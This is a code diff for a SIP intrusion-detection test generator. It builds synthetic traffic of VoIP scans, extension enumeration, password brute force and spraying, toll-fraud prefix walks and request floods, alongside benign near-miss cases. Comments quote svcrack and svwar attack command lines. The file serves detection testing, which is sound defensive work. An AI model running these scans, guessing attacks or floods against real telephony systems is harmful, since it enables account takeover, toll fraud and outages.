@@ -12,7 +12,7 @@
 //! project service find it; the root build (tsconfig.json) does not compile or emit it.
 
 import type { SipEvent } from '../../schema/src/sip-event';
-import { Rand, Clock, call, registerLogin, probe, retransmit } from '../../lib/src/test-support/capture/dialogs';
+import { call, registerLogin, probe, retransmit } from '../../lib/src/test-support/capture/dialogs';
 import {
   type Endpoint,
   type RequestSpec,
@@ -21,16 +21,15 @@ import {
   UA,
   SDP,
 } from '../../lib/src/test-support/capture/sip';
-import { Fixture, written, decodeCapture, writeEvents, REGISTRAR, PROXY, DOMAIN } from './fixture-kit';
+import type { Fixture } from './fixture-kit';
+import { written, decodeCapture, writeEvents, REGISTRAR, PROXY, DOMAIN, scenario } from './fixture-kit';
 
 // ---------------------------------------------------------------------------------------------
 // Scenarios, per signature
 
 function recon(realUdp: SipEvent[]): void {
   // SIP-REC-01 --------------------------------------------------------------------------------
-  {
-    const f = new Fixture(new Rand(101));
-    const c = Clock.at('2026-11-20T03:12:05Z');
+  scenario('recon/SIP-REC-01/positive/svmap-friendly-scanner.jsonl', 101, '2026-11-20T03:12:05Z', (f, c) => {
     const scanner: Endpoint = { ip: '203.0.113.66', port: 5070 };
     // svmap: one OPTIONS per host, UA friendly-scanner, From "sipvicious"<sip:100@1.1.1.1>.
     for (let i = 0; i < 5; i++) {
@@ -50,13 +49,10 @@ function recon(realUdp: SipEvent[]): void {
       );
       c.advanceMs(20);
     }
-    f.write('recon/SIP-REC-01/positive/svmap-friendly-scanner.jsonl');
-  }
-  {
-    // UA rotated to a softphone string, but the tool still says who it is in the From display
-    // name (ET 2008578) — and a second source runs sippts with its default UA.
-    const f = new Fixture(new Rand(102));
-    const c = Clock.at('2026-11-20T04:40:00Z');
+  });
+  // UA rotated to a softphone string, but the tool still says who it is in the From display
+  // name (ET 2008578) — and a second source runs sippts with its default UA.
+  scenario('recon/SIP-REC-01/positive/renamed-ua-and-sippts.jsonl', 102, '2026-11-20T04:40:00Z', (f, c) => {
     probe(f, c, { ip: '203.0.113.67', port: 5060 }, REGISTRAR, {
       method: 'OPTIONS',
       toUser: '1001',
@@ -75,13 +71,10 @@ function recon(realUdp: SipEvent[]): void {
       status: 200,
       server: UA.asterisk,
     });
-    f.write('recon/SIP-REC-01/positive/renamed-ua-and-sippts.jsonl');
-  }
-  {
-    // Everyday user agents, including the ones the list deliberately leaves out ("Asterisk PBX"
-    // is both the real Asterisk and a modified-SIPVicious UA; Zoiper is a popular softphone).
-    const f = new Fixture(new Rand(103));
-    const c = Clock.at('2026-11-20T09:00:00Z');
+  });
+  // Everyday user agents, including the ones the list deliberately leaves out ("Asterisk PBX"
+  // is both the real Asterisk and a modified-SIPVicious UA; Zoiper is a popular softphone).
+  scenario('recon/SIP-REC-01/negative/everyday-user-agents.jsonl', 103, '2026-11-20T09:00:00Z', (f, c) => {
     const uas = [
       UA.asterisk,
       UA.zoiper,
@@ -104,15 +97,12 @@ function recon(realUdp: SipEvent[]): void {
       });
       c.advanceMs(500);
     });
-    f.write('recon/SIP-REC-01/negative/everyday-user-agents.jsonl');
-  }
+  });
   writeEvents('recon/SIP-REC-01/negative/testbed-udp-real.jsonl', realUdp);
 
   // SIP-REC-02 --------------------------------------------------------------------------------
-  {
-    // svmap 198.51.100.0/26: 60 hosts in ~3 s, most silent, a few answer.
-    const f = new Fixture(new Rand(201));
-    const c = Clock.at('2026-11-20T03:12:05Z');
+  // svmap 198.51.100.0/26: 60 hosts in ~3 s, most silent, a few answer.
+  scenario('recon/SIP-REC-02/positive/options-sweep-60-hosts.jsonl', 201, '2026-11-20T03:12:05Z', (f, c) => {
     const scanner: Endpoint = { ip: '203.0.113.66', port: 5070 };
     for (let i = 1; i <= 60; i++) {
       const answer = i % 17 === 0;
@@ -131,12 +121,9 @@ function recon(realUdp: SipEvent[]): void {
       );
       c.advanceMs(50);
     }
-    f.write('recon/SIP-REC-02/positive/options-sweep-60-hosts.jsonl');
-  }
-  {
-    // A trunk keepalive: the testbed's OPTIONS (From keepalive) to one peer every 10 s for 10 min.
-    const f = new Fixture(new Rand(202));
-    const c = Clock.at('2026-11-20T10:00:00Z');
+  });
+  // A trunk keepalive: the testbed's OPTIONS (From keepalive) to one peer every 10 s for 10 min.
+  scenario('recon/SIP-REC-02/negative/keepalive-one-peer.jsonl', 202, '2026-11-20T10:00:00Z', (f, c) => {
     const ua: Endpoint = { ip: '10.77.0.11', port: 5060 };
     const peer: Endpoint = { ip: '10.77.0.21', port: 5060 };
     for (let i = 1; i <= 60; i++) {
@@ -149,12 +136,9 @@ function recon(realUdp: SipEvent[]): void {
       });
       c.advanceMs(10000);
     }
-    f.write('recon/SIP-REC-02/negative/keepalive-one-peer.jsonl');
-  }
-  {
-    // An SBC health-checking its 12 trunk peers every 30 s (dispatcher-style), all answered.
-    const f = new Fixture(new Rand(203));
-    const c = Clock.at('2026-11-20T10:00:00Z');
+  });
+  // An SBC health-checking its 12 trunk peers every 30 s (dispatcher-style), all answered.
+  scenario('recon/SIP-REC-02/negative/sbc-pings-12-peers.jsonl', 203, '2026-11-20T10:00:00Z', (f, c) => {
     const sbc: Endpoint = { ip: '10.77.1.1', port: 5060 };
     for (let round = 0; round < 10; round++) {
       for (let p = 1; p <= 12; p++) {
@@ -169,15 +153,12 @@ function recon(realUdp: SipEvent[]): void {
       }
       c.advanceMs(30000 - 1200);
     }
-    f.write('recon/SIP-REC-02/negative/sbc-pings-12-peers.jsonl');
-  }
+  });
   writeEvents('recon/SIP-REC-02/negative/testbed-udp-real.jsonl', realUdp);
 
   // SIP-REC-03 --------------------------------------------------------------------------------
-  {
-    // svwar -e100-199 -m REGISTER: 404 for unknown users, 401 for the valid ones (the differential).
-    const f = new Fixture(new Rand(301));
-    const c = Clock.at('2026-11-20T03:20:00Z');
+  // svwar -e100-199 -m REGISTER: 404 for unknown users, 401 for the valid ones (the differential).
+  scenario('recon/SIP-REC-03/positive/svwar-register-100-199.jsonl', 301, '2026-11-20T03:20:00Z', (f, c) => {
     const scanner: Endpoint = { ip: '203.0.113.77', port: 5061 };
     const valid = new Set(['101', '120', '150']);
     for (let ext = 100; ext <= 199; ext++) {
@@ -193,12 +174,9 @@ function recon(realUdp: SipEvent[]): void {
       });
       c.advanceMs(40);
     }
-    f.write('recon/SIP-REC-03/positive/svwar-register-100-199.jsonl');
-  }
-  {
-    // svwar -m OPTIONS against a server that answers 403 for unknown users instead of 404.
-    const f = new Fixture(new Rand(302));
-    const c = Clock.at('2026-11-21T01:00:00Z');
+  });
+  // svwar -m OPTIONS against a server that answers 403 for unknown users instead of 404.
+  scenario('recon/SIP-REC-03/positive/options-enumeration-403.jsonl', 302, '2026-11-21T01:00:00Z', (f, c) => {
     const scanner: Endpoint = { ip: '203.0.113.78', port: 5060 };
     for (let ext = 1000; ext < 1040; ext++) {
       probe(f, c, scanner, PROXY, {
@@ -212,13 +190,10 @@ function recon(realUdp: SipEvent[]): void {
       });
       c.advanceMs(900);
     }
-    f.write('recon/SIP-REC-03/positive/options-enumeration-403.jsonl');
-  }
-  {
-    // A PBX calling 30 distinct customers through a proxy that challenges every INVITE (407, no
-    // credentials yet) and then accepts the authenticated retry: challenges are not enumeration.
-    const f = new Fixture(new Rand(303));
-    const c = Clock.at('2026-11-20T11:00:00Z');
+  });
+  // A PBX calling 30 distinct customers through a proxy that challenges every INVITE (407, no
+  // credentials yet) and then accepts the authenticated retry: challenges are not enumeration.
+  scenario('recon/SIP-REC-03/negative/pbx-calls-challenged-by-proxy.jsonl', 303, '2026-11-20T11:00:00Z', (f, c) => {
     const pbx: Endpoint = { ip: '10.77.2.10', port: 5060 };
     for (let i = 0; i < 30; i++) {
       call(f, c, pbx, PROXY, {
@@ -235,12 +210,9 @@ function recon(realUdp: SipEvent[]): void {
       });
       c.advanceMs(1500);
     }
-    f.write('recon/SIP-REC-03/negative/pbx-calls-challenged-by-proxy.jsonl');
-  }
-  {
-    // Near miss: 15 distinct wrong extensions dialled from one PBX in 2 minutes (threshold 20).
-    const f = new Fixture(new Rand(304));
-    const c = Clock.at('2026-11-20T12:00:00Z');
+  });
+  // Near miss: 15 distinct wrong extensions dialled from one PBX in 2 minutes (threshold 20).
+  scenario('recon/SIP-REC-03/negative/fifteen-wrong-extensions.jsonl', 304, '2026-11-20T12:00:00Z', (f, c) => {
     const pbx: Endpoint = { ip: '10.77.2.11', port: 5060 };
     for (let i = 0; i < 15; i++) {
       call(f, c, pbx, PROXY, {
@@ -253,15 +225,12 @@ function recon(realUdp: SipEvent[]): void {
       });
       c.advanceMs(7000);
     }
-    f.write('recon/SIP-REC-03/negative/fifteen-wrong-extensions.jsonl');
-  }
+  });
   writeEvents('recon/SIP-REC-03/negative/testbed-udp-real.jsonl', realUdp);
 
   // SIP-REC-04 --------------------------------------------------------------------------------
-  {
-    // An open-relay / stolen-account probe walking international prefixes for one UK number.
-    const f = new Fixture(new Rand(401));
-    const c = Clock.at('2026-11-20T02:10:00Z');
+  // An open-relay / stolen-account probe walking international prefixes for one UK number.
+  scenario('recon/SIP-REC-04/positive/prefix-walk-uk-number.jsonl', 401, '2026-11-20T02:10:00Z', (f, c) => {
     const attacker: Endpoint = { ip: '203.0.113.88', port: 5060 };
     const national = '442079460123';
     const prefixes = ['', '0', '00', '000', '011', '9', '900', '9011', '8', '800', '1', '01', '001', '0000', '99', '7'];
@@ -277,13 +246,10 @@ function recon(realUdp: SipEvent[]): void {
       });
       c.advanceMs(600);
     });
-    f.write('recon/SIP-REC-04/positive/prefix-walk-uk-number.jsonl');
-  }
-  {
-    // A contact-centre trunk: 40 outbound calls to distinct numbers in a minute, 6 of them to
-    // numbers that do not exist (404/484) — ordinary dialling errors stay below 10.
-    const f = new Fixture(new Rand(402));
-    const c = Clock.at('2026-11-20T14:00:00Z');
+  });
+  // A contact-centre trunk: 40 outbound calls to distinct numbers in a minute, 6 of them to
+  // numbers that do not exist (404/484) — ordinary dialling errors stay below 10.
+  scenario('recon/SIP-REC-04/negative/contact-centre-dialling-errors.jsonl', 402, '2026-11-20T14:00:00Z', (f, c) => {
     const trunk: Endpoint = { ip: '10.77.2.20', port: 5060 };
     for (let i = 0; i < 40; i++) {
       const final = i % 7 === 3 ? (i % 2 === 0 ? 404 : 484) : i % 5 === 0 ? 486 : i % 9 === 0 ? 480 : 200;
@@ -299,13 +265,10 @@ function recon(realUdp: SipEvent[]): void {
       });
       c.advanceMs(900);
     }
-    f.write('recon/SIP-REC-04/negative/contact-centre-dialling-errors.jsonl');
-  }
-  {
-    // Near miss: 15 short internal extensions rejected in 20 s — extension enumeration (REC-03's
-    // business), not a dial-plan walk: the numbers are too short to be external destinations.
-    const f = new Fixture(new Rand(403));
-    const c = Clock.at('2026-11-20T15:00:00Z');
+  });
+  // Near miss: 15 short internal extensions rejected in 20 s — extension enumeration (REC-03's
+  // business), not a dial-plan walk: the numbers are too short to be external destinations.
+  scenario('recon/SIP-REC-04/negative/short-extensions-rejected.jsonl', 403, '2026-11-20T15:00:00Z', (f, c) => {
     const src: Endpoint = { ip: '203.0.113.89', port: 5060 };
     for (let i = 0; i < 15; i++) {
       call(f, c, src, PROXY, {
@@ -318,8 +281,7 @@ function recon(realUdp: SipEvent[]): void {
       });
       c.advanceMs(1000);
     }
-    f.write('recon/SIP-REC-04/negative/short-extensions-rejected.jsonl');
-  }
+  });
   writeEvents('recon/SIP-REC-04/negative/testbed-udp-real.jsonl', realUdp);
 }
 
@@ -327,10 +289,8 @@ function auth(realUdp: SipEvent[]): void {
   const attacker: Endpoint = { ip: '203.0.113.7', port: 5070 };
 
   // SIP-AUTH-01 -------------------------------------------------------------------------------
-  {
-    // svcrack -u1001 -d dictionary.txt: 40 guesses in ~30 s, each one challenge + one wrong answer.
-    const f = new Fixture(new Rand(501));
-    const c = Clock.at('2026-11-20T03:30:00Z');
+  // svcrack -u1001 -d dictionary.txt: 40 guesses in ~30 s, each one challenge + one wrong answer.
+  scenario('auth/SIP-AUTH-01/positive/svcrack-dictionary-1001.jsonl', 501, '2026-11-20T03:30:00Z', (f, c) => {
     for (let i = 0; i < 40; i++) {
       registerLogin(f, c, attacker, REGISTRAR, {
         user: '1001',
@@ -341,13 +301,10 @@ function auth(realUdp: SipEvent[]): void {
       });
       c.advanceMs(700);
     }
-    f.write('auth/SIP-AUTH-01/positive/svcrack-dictionary-1001.jsonl');
-  }
-  {
-    // INVITE brute force: a toll-fraud bot guessing the password of account 2001 on the proxy,
-    // each authenticated INVITE re-challenged with 407 (the caller account is the From user).
-    const f = new Fixture(new Rand(502));
-    const c = Clock.at('2026-11-20T03:45:00Z');
+  });
+  // INVITE brute force: a toll-fraud bot guessing the password of account 2001 on the proxy,
+  // each authenticated INVITE re-challenged with 407 (the caller account is the From user).
+  scenario('auth/SIP-AUTH-01/positive/invite-password-guessing-407.jsonl', 502, '2026-11-20T03:45:00Z', (f, c) => {
     const bot: Endpoint = { ip: '203.0.113.8', port: 5060 };
     for (let i = 0; i < 15; i++) {
       const q: RequestSpec = {
@@ -372,12 +329,9 @@ function auth(realUdp: SipEvent[]): void {
       );
       c.advanceMs(4000);
     }
-    f.write('auth/SIP-AUTH-01/positive/invite-password-guessing-407.jsonl');
-  }
-  {
-    // Digest is normal: a phone re-registering every 30 s for 10 min, each time 401 → 200.
-    const f = new Fixture(new Rand(503));
-    const c = Clock.at('2026-11-20T08:00:00Z');
+  });
+  // Digest is normal: a phone re-registering every 30 s for 10 min, each time 401 → 200.
+  scenario('auth/SIP-AUTH-01/negative/challenge-then-success-every-30s.jsonl', 503, '2026-11-20T08:00:00Z', (f, c) => {
     const phone: Endpoint = { ip: '10.77.3.15', port: 5060 };
     const callId = '5f1c9a7e20b34d1d@10.77.3.15';
     for (let i = 0; i < 20; i++) {
@@ -393,12 +347,9 @@ function auth(realUdp: SipEvent[]): void {
       });
       c.advanceMs(30000);
     }
-    f.write('auth/SIP-AUTH-01/negative/challenge-then-success-every-30s.jsonl');
-  }
-  {
-    // Near miss: a phone with a stale password after a change retries 9 times in 5 min.
-    const f = new Fixture(new Rand(504));
-    const c = Clock.at('2026-11-20T08:30:00Z');
+  });
+  // Near miss: a phone with a stale password after a change retries 9 times in 5 min.
+  scenario('auth/SIP-AUTH-01/negative/stale-password-9-retries.jsonl', 504, '2026-11-20T08:30:00Z', (f, c) => {
     const phone: Endpoint = { ip: '10.77.3.16', port: 5060 };
     for (let i = 0; i < 9; i++) {
       registerLogin(f, c, phone, REGISTRAR, {
@@ -412,15 +363,12 @@ function auth(realUdp: SipEvent[]): void {
       });
       c.advanceMs(32000);
     }
-    f.write('auth/SIP-AUTH-01/negative/stale-password-9-retries.jsonl');
-  }
+  });
   writeEvents('auth/SIP-AUTH-01/negative/testbed-udp-real.jsonl', realUdp);
 
   // SIP-AUTH-02 -------------------------------------------------------------------------------
-  {
-    // Password spraying: 2 common passwords against 30 extensions from one host in 2 minutes.
-    const f = new Fixture(new Rand(601));
-    const c = Clock.at('2026-11-20T04:00:00Z');
+  // Password spraying: 2 common passwords against 30 extensions from one host in 2 minutes.
+  scenario('auth/SIP-AUTH-02/positive/spray-30-extensions.jsonl', 601, '2026-11-20T04:00:00Z', (f, c) => {
     const sprayer: Endpoint = { ip: '203.0.113.9', port: 5060 };
     for (let pass = 0; pass < 2; pass++) {
       for (let ext = 1000; ext < 1030; ext++) {
@@ -434,13 +382,10 @@ function auth(realUdp: SipEvent[]): void {
         c.advanceMs(1500);
       }
     }
-    f.write('auth/SIP-AUTH-02/positive/spray-30-extensions.jsonl');
-  }
-  {
-    // After an outage 60 phones behind one NAT re-register within a minute (401 → 200 each); three
-    // of them still carry an old password. Many accounts, one source — but not a spray.
-    const f = new Fixture(new Rand(602));
-    const c = Clock.at('2026-11-20T06:00:00Z');
+  });
+  // After an outage 60 phones behind one NAT re-register within a minute (401 → 200 each); three
+  // of them still carry an old password. Many accounts, one source — but not a spray.
+  scenario('auth/SIP-AUTH-02/negative/nat-site-mass-reregistration.jsonl', 602, '2026-11-20T06:00:00Z', (f, c) => {
     const nat: Endpoint = { ip: '203.0.113.50', port: 5060 };
     for (let i = 0; i < 60; i++) {
       const stale = i === 5 || i === 17 || i === 41;
@@ -453,12 +398,9 @@ function auth(realUdp: SipEvent[]): void {
       });
       c.advanceMs(900);
     }
-    f.write('auth/SIP-AUTH-02/negative/nat-site-mass-reregistration.jsonl');
-  }
-  {
-    // Near miss: failures on 9 distinct accounts from one host in 5 minutes (threshold 10).
-    const f = new Fixture(new Rand(603));
-    const c = Clock.at('2026-11-20T07:00:00Z');
+  });
+  // Near miss: failures on 9 distinct accounts from one host in 5 minutes (threshold 10).
+  scenario('auth/SIP-AUTH-02/negative/nine-accounts-failing.jsonl', 603, '2026-11-20T07:00:00Z', (f, c) => {
     const src: Endpoint = { ip: '203.0.113.51', port: 5060 };
     for (let ext = 4000; ext < 4009; ext++) {
       registerLogin(f, c, src, REGISTRAR, {
@@ -470,15 +412,12 @@ function auth(realUdp: SipEvent[]): void {
       });
       c.advanceMs(20000);
     }
-    f.write('auth/SIP-AUTH-02/negative/nine-accounts-failing.jsonl');
-  }
+  });
   writeEvents('auth/SIP-AUTH-02/negative/testbed-udp-real.jsonl', realUdp);
 
   // SIP-AUTH-03 -------------------------------------------------------------------------------
-  {
-    // svcrack finds the password of 1001 after 25 wrong guesses; the registrar answers 200.
-    const f = new Fixture(new Rand(701));
-    const c = Clock.at('2026-11-20T03:30:00Z');
+  // svcrack finds the password of 1001 after 25 wrong guesses; the registrar answers 200.
+  scenario('auth/SIP-AUTH-03/positive/svcrack-finds-password.jsonl', 701, '2026-11-20T03:30:00Z', (f, c) => {
     for (let i = 0; i < 26; i++) {
       registerLogin(f, c, attacker, REGISTRAR, {
         user: '1001',
@@ -489,12 +428,9 @@ function auth(realUdp: SipEvent[]): void {
       });
       c.advanceMs(700);
     }
-    f.write('auth/SIP-AUTH-03/positive/svcrack-finds-password.jsonl');
-  }
-  {
-    // A user mistypes the password twice on a new softphone, then gets it right.
-    const f = new Fixture(new Rand(702));
-    const c = Clock.at('2026-11-20T09:15:00Z');
+  });
+  // A user mistypes the password twice on a new softphone, then gets it right.
+  scenario('auth/SIP-AUTH-03/negative/typo-then-success.jsonl', 702, '2026-11-20T09:15:00Z', (f, c) => {
     const phone: Endpoint = { ip: '10.77.3.20', port: 5060 };
     for (let i = 0; i < 3; i++) {
       registerLogin(f, c, phone, REGISTRAR, {
@@ -508,12 +444,9 @@ function auth(realUdp: SipEvent[]): void {
       });
       c.advanceMs(15000);
     }
-    f.write('auth/SIP-AUTH-03/negative/typo-then-success.jsonl');
-  }
-  {
-    // Near miss: a stale-password phone fails 8 times, the user fixes it 20 minutes later (window 10 min).
-    const f = new Fixture(new Rand(703));
-    const c = Clock.at('2026-11-20T09:30:00Z');
+  });
+  // Near miss: a stale-password phone fails 8 times, the user fixes it 20 minutes later (window 10 min).
+  scenario('auth/SIP-AUTH-03/negative/fixed-after-window.jsonl', 703, '2026-11-20T09:30:00Z', (f, c) => {
     const phone: Endpoint = { ip: '10.77.3.21', port: 5060 };
     for (let i = 0; i < 8; i++) {
       registerLogin(f, c, phone, REGISTRAR, {
@@ -537,18 +470,15 @@ function auth(realUdp: SipEvent[]): void {
       callId: 'dd33ee44@10.77.3.21',
       cseqStart: 17,
     });
-    f.write('auth/SIP-AUTH-03/negative/fixed-after-window.jsonl');
-  }
+  });
   writeEvents('auth/SIP-AUTH-03/negative/testbed-udp-real.jsonl', realUdp);
 }
 
 function dos(realUdp: SipEvent[]): void {
   // SIP-DOS-01 --------------------------------------------------------------------------------
-  {
-    // inviteflood-style: 160 new INVITEs (fresh Call-IDs) in 8 s from one host; the server
-    // answers 100 and then 503 as it saturates.
-    const f = new Fixture(new Rand(801));
-    const c = Clock.at('2026-11-20T05:00:00Z');
+  // inviteflood-style: 160 new INVITEs (fresh Call-IDs) in 8 s from one host; the server
+  // answers 100 and then 503 as it saturates.
+  scenario('dos/SIP-DOS-01/positive/invite-flood-160-in-8s.jsonl', 801, '2026-11-20T05:00:00Z', (f, c) => {
     const flooder: Endpoint = { ip: '203.0.113.99', port: 5060 };
     for (let i = 0; i < 160; i++) {
       const q: RequestSpec = {
@@ -567,13 +497,10 @@ function dos(realUdp: SipEvent[]): void {
       if (i % 4 === 0) f.response(q, i > 80 ? 503 : 100, PROXY, c.advanceMs(1), { server: UA.kamailio });
       c.advanceMs(50);
     }
-    f.write('dos/SIP-DOS-01/positive/invite-flood-160-in-8s.jsonl');
-  }
-  {
-    // A UAS that went silent: 25 calls, each INVITE resent 6 times on Timer A = 175 INVITE packets
-    // in ~40 s, but only 25 transactions.
-    const f = new Fixture(new Rand(802));
-    const c = Clock.at('2026-11-20T05:30:00Z');
+  });
+  // A UAS that went silent: 25 calls, each INVITE resent 6 times on Timer A = 175 INVITE packets
+  // in ~40 s, but only 25 transactions.
+  scenario('dos/SIP-DOS-01/negative/retransmissions-to-dead-uas.jsonl', 802, '2026-11-20T05:30:00Z', (f, c) => {
     const gw: Endpoint = { ip: '10.77.2.30', port: 5060 };
     for (let i = 0; i < 25; i++) {
       const q: RequestSpec = {
@@ -593,13 +520,10 @@ function dos(realUdp: SipEvent[]): void {
       retransmit(f, text, gw, PROXY, c.us, 6);
       c.advanceMs(600);
     }
-    f.write('dos/SIP-DOS-01/negative/retransmissions-to-dead-uas.jsonl');
-  }
-  {
-    // A busy PBX: 90 calls in a minute through a challenging proxy = 180 INVITE transactions
-    // (407 then authenticated retry, same Call-ID) but 90 calls.
-    const f = new Fixture(new Rand(803));
-    const c = Clock.at('2026-11-20T13:00:00Z');
+  });
+  // A busy PBX: 90 calls in a minute through a challenging proxy = 180 INVITE transactions
+  // (407 then authenticated retry, same Call-ID) but 90 calls.
+  scenario('dos/SIP-DOS-01/negative/busy-pbx-90-calls-challenged.jsonl', 803, '2026-11-20T13:00:00Z', (f, c) => {
     const pbx: Endpoint = { ip: '10.77.2.10', port: 5060 };
     for (let i = 0; i < 90; i++) {
       const start = c.us;
@@ -617,15 +541,12 @@ function dos(realUdp: SipEvent[]): void {
       });
       c.us = start + 650_000;
     }
-    f.write('dos/SIP-DOS-01/negative/busy-pbx-90-calls-challenged.jsonl');
-  }
+  });
   writeEvents('dos/SIP-DOS-01/negative/testbed-udp-real.jsonl', realUdp);
 
   // SIP-DOS-02 --------------------------------------------------------------------------------
-  {
-    // REGISTER flood: 150 REGISTERs in 15 s from one host (no credentials, random users).
-    const f = new Fixture(new Rand(901));
-    const c = Clock.at('2026-11-20T05:10:00Z');
+  // REGISTER flood: 150 REGISTERs in 15 s from one host (no credentials, random users).
+  scenario('dos/SIP-DOS-02/positive/register-flood-150-in-15s.jsonl', 901, '2026-11-20T05:10:00Z', (f, c) => {
     const flooder: Endpoint = { ip: '203.0.113.101', port: 5060 };
     for (let i = 0; i < 150; i++) {
       probe(f, c, flooder, REGISTRAR, {
@@ -638,54 +559,53 @@ function dos(realUdp: SipEvent[]): void {
       });
       c.advanceMs(100);
     }
-    f.write('dos/SIP-DOS-02/positive/register-flood-150-in-15s.jsonl');
-  }
-  {
-    // Near miss: a NAT site's 45 phones re-register within a minute (2 REGISTERs each = 90), and
-    // 20 of the unauthenticated REGISTERs are resent once (lossy uplink): 110 packets, 90 requests.
-    const f = new Fixture(new Rand(902));
-    const c = Clock.at('2026-11-20T06:00:00Z');
-    const nat = '203.0.113.50';
-    for (let i = 0; i < 45; i++) {
-      const phone: Endpoint = { ip: nat, port: 30000 + i };
-      if (i < 20) {
-        const q = probe(f, c, phone, REGISTRAR, {
-          method: 'REGISTER',
-          toUser: String(3000 + i),
-          fromUser: String(3000 + i),
-          toHost: DOMAIN,
-          ua: UA.yealink,
-        });
-        retransmit(f, renderRequest(f.r, q), phone, REGISTRAR, c.us, 1);
-        c.advanceMs(700);
-        registerLogin(f, c, phone, REGISTRAR, {
-          user: String(3000 + i),
-          domain: DOMAIN,
-          final: 200,
-          ua: UA.yealink,
-          server: UA.kamailio,
-          skipChallenge: true,
-        });
-      } else {
-        registerLogin(f, c, phone, REGISTRAR, {
-          user: String(3000 + i),
-          domain: DOMAIN,
-          final: 200,
-          ua: UA.yealink,
-          server: UA.kamailio,
-        });
+  });
+  // Near miss: a NAT site's 45 phones re-register within a minute (2 REGISTERs each = 90), and
+  // 20 of the unauthenticated REGISTERs are resent once (lossy uplink): 110 packets, 90 requests.
+  scenario(
+    'dos/SIP-DOS-02/negative/nat-site-reregistration-with-resends.jsonl',
+    902,
+    '2026-11-20T06:00:00Z',
+    (f, c) => {
+      const nat = '203.0.113.50';
+      for (let i = 0; i < 45; i++) {
+        const phone: Endpoint = { ip: nat, port: 30000 + i };
+        if (i < 20) {
+          const q = probe(f, c, phone, REGISTRAR, {
+            method: 'REGISTER',
+            toUser: String(3000 + i),
+            fromUser: String(3000 + i),
+            toHost: DOMAIN,
+            ua: UA.yealink,
+          });
+          retransmit(f, renderRequest(f.r, q), phone, REGISTRAR, c.us, 1);
+          c.advanceMs(700);
+          registerLogin(f, c, phone, REGISTRAR, {
+            user: String(3000 + i),
+            domain: DOMAIN,
+            final: 200,
+            ua: UA.yealink,
+            server: UA.kamailio,
+            skipChallenge: true,
+          });
+        } else {
+          registerLogin(f, c, phone, REGISTRAR, {
+            user: String(3000 + i),
+            domain: DOMAIN,
+            final: 200,
+            ua: UA.yealink,
+            server: UA.kamailio,
+          });
+        }
+        c.advanceMs(600);
       }
-      c.advanceMs(600);
-    }
-    f.write('dos/SIP-DOS-02/negative/nat-site-reregistration-with-resends.jsonl');
-  }
+    },
+  );
   writeEvents('dos/SIP-DOS-02/negative/testbed-udp-real.jsonl', realUdp);
 
   // SIP-DOS-03 --------------------------------------------------------------------------------
-  {
-    // A mixed-method flood (OPTIONS, MESSAGE, SUBSCRIBE, INFO): 150 requests in 1.5 s from one host.
-    const f = new Fixture(new Rand(1001));
-    const c = Clock.at('2026-11-20T05:20:00Z');
+  // A mixed-method flood (OPTIONS, MESSAGE, SUBSCRIBE, INFO): 150 requests in 1.5 s from one host.
+  scenario('dos/SIP-DOS-03/positive/mixed-request-flood.jsonl', 1001, '2026-11-20T05:20:00Z', (f, c) => {
     const flooder: Endpoint = { ip: '203.0.113.120', port: 5060 };
     const methods = ['OPTIONS', 'MESSAGE', 'SUBSCRIBE', 'INFO'];
     for (let i = 0; i < 150; i++) {
@@ -698,12 +618,9 @@ function dos(realUdp: SipEvent[]): void {
       });
       c.advanceMs(10);
     }
-    f.write('dos/SIP-DOS-03/positive/mixed-request-flood.jsonl');
-  }
-  {
-    // Near miss: 40 requests in 6 s (pike: 16 per 2 s unit), plus resends that do not count.
-    const f = new Fixture(new Rand(1002));
-    const c = Clock.at('2026-11-20T15:00:00Z');
+  });
+  // Near miss: 40 requests in 6 s (pike: 16 per 2 s unit), plus resends that do not count.
+  scenario('dos/SIP-DOS-03/negative/busy-pbx-40-requests-with-resends.jsonl', 1002, '2026-11-20T15:00:00Z', (f, c) => {
     const pbx: Endpoint = { ip: '10.77.2.40', port: 5060 };
     for (let i = 0; i < 40; i++) {
       const q = probe(f, c, pbx, PROXY, {
@@ -715,15 +632,12 @@ function dos(realUdp: SipEvent[]): void {
       if (i % 2 === 0) retransmit(f, renderRequest(f.r, q), pbx, PROXY, c.us, 2);
       c.advanceMs(145);
     }
-    f.write('dos/SIP-DOS-03/negative/busy-pbx-40-requests-with-resends.jsonl');
-  }
+  });
   writeEvents('dos/SIP-DOS-03/negative/testbed-udp-real.jsonl', realUdp);
 
   // SIP-DOS-04 --------------------------------------------------------------------------------
-  {
-    // A distributed INVITE surge from 150 sources; the target answers 503 to most of it.
-    const f = new Fixture(new Rand(1101));
-    const c = Clock.at('2026-11-20T05:40:00Z');
+  // A distributed INVITE surge from 150 sources; the target answers 503 to most of it.
+  scenario('dos/SIP-DOS-04/positive/distributed-surge-503-storm.jsonl', 1101, '2026-11-20T05:40:00Z', (f, c) => {
     for (let i = 0; i < 150; i++) {
       const src: Endpoint = {
         ip: i % 2 === 0 ? `203.0.113.${1 + (i % 200) / 2}` : `192.0.2.${1 + ((i - 1) % 200) / 2}`,
@@ -751,12 +665,9 @@ function dos(realUdp: SipEvent[]): void {
       );
       c.advanceMs(100);
     }
-    f.write('dos/SIP-DOS-04/positive/distributed-surge-503-storm.jsonl');
-  }
-  {
-    // A healthy gateway: 70 calls in 30 s (≈ 125 final responses incl. BYE), 4 of them 503 — 5 %.
-    const f = new Fixture(new Rand(1102));
-    const c = Clock.at('2026-11-20T16:00:00Z');
+  });
+  // A healthy gateway: 70 calls in 30 s (≈ 125 final responses incl. BYE), 4 of them 503 — 5 %.
+  scenario('dos/SIP-DOS-04/negative/healthy-gateway-5pct-503.jsonl', 1102, '2026-11-20T16:00:00Z', (f, c) => {
     const pbx: Endpoint = { ip: '10.77.2.10', port: 5060 };
     for (let i = 0; i < 70; i++) {
       const start = c.us;
@@ -773,12 +684,9 @@ function dos(realUdp: SipEvent[]): void {
       });
       c.us = start + 400_000;
     }
-    f.write('dos/SIP-DOS-04/negative/healthy-gateway-5pct-503.jsonl');
-  }
-  {
-    // Near miss: a trunk is down and answers every call 503 — but only 30 calls (min_events 100).
-    const f = new Fixture(new Rand(1103));
-    const c = Clock.at('2026-11-20T16:30:00Z');
+  });
+  // Near miss: a trunk is down and answers every call 503 — but only 30 calls (min_events 100).
+  scenario('dos/SIP-DOS-04/negative/trunk-down-30-calls.jsonl', 1103, '2026-11-20T16:30:00Z', (f, c) => {
     const pbx: Endpoint = { ip: '10.77.2.10', port: 5060 };
     for (let i = 0; i < 30; i++) {
       call(f, c, pbx, PROXY, {
@@ -791,18 +699,15 @@ function dos(realUdp: SipEvent[]): void {
       });
       c.advanceMs(1500);
     }
